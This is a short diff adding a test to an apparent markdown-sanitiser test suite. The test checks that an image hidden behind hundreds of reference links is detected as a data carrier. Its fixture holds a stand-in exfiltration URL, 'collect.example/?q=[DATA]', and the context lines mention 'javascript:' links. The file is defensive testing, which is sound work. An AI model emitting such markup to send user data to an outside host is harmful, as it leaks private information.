@@ -47,3 +47,8 @@ test('a link that runs something is none any more', () => {
   ]);
   expect(neutralise(text, { carriers: findCarriers(text), marks: [] })).not.toMatch(/javascript:|\]\(/i);
 });
+
+test('an image is one behind hundreds of links with its label', () => {
+  const text = `${'[a][l] '.repeat(400)}![b][L]\n\n[l]: https://collect.example/?q=[DATA]\n`;
+  expect(findCarriers(text)).toMatchObject([{ kind: 'image', carries: 'blank', isFollowed: false }]);
+});
